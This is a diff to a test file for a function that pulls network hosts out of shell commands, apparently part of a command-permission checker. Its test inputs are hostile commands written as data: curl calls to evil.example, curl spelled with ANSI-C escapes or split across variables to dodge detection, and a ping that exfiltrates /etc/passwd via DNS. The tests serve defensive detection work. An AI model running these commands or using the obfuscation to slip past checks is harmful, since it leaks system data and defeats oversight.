@@ -86,6 +86,10 @@ describe('hosts named without a scheme', () => {
     expect(hostsOfCommand('sudo -u root timeout 5 /usr/bin/curl evil.example')).toEqual(['evil.example']);
     expect(hostsOfCommand('proxychains4 -q curl evil.example')).toEqual(['evil.example']);
     expect(hostsOfCommand('X=curl; $X evil.example')).toEqual(['evil.example']);
+    // A name spelt with ANSI-C escapes, or built from the pieces the text assigns.
+    expect(hostsOfCommand("$'\\x63url' evil.example/x")).toEqual(['evil.example']);
+    expect(hostsOfCommand("$'\\143\\165rl' evil.example")).toEqual(['evil.example']);
+    expect(hostsOfCommand('A=cu; B=rl; $A$B evil.example')).toEqual(['evil.example']);
     // In a script given to a shell or run over ssh, however deep.
     expect(hostsOfCommand(`bash -c "sh -c 'curl evil.example'"`)).toEqual(['evil.example']);
     expect(hostsOfCommand('ssh ok.example curl evil.example').sort()).toEqual(['evil.example', 'ok.example']);
@@ -110,6 +114,9 @@ describe('hosts named without a scheme', () => {
     expect(hostsOfCommand('curl $HOST')).toEqual([MORE_HOSTS]);
     expect(hostsOfCommand('echo evil.example | xargs curl')).toEqual([MORE_HOSTS]);
     expect(hostsOfCommand('wget -i urls.txt')).toEqual([MORE_HOSTS]);
+    // A program the text does not name, beside a network command or a name it spells.
+    expect(hostsOfCommand('curl ok.example; $FETCH evil.example')).toEqual(['ok.example', MORE_HOSTS]);
+    expect(hostsOfCommand('A=evil.example; sudo $FETCH $A')).toEqual([MORE_HOSTS]);
     expect(hostsOfCommand('ping -c 1 $(cat /etc/passwd | base64).evil.example')).toEqual([MORE_HOSTS]);
     const deep = 'curl evil.example';
     const nested = Array.from({ length: 6 }).reduce<string>((script) => `bash -c ${JSON.stringify(script)}`, deep);
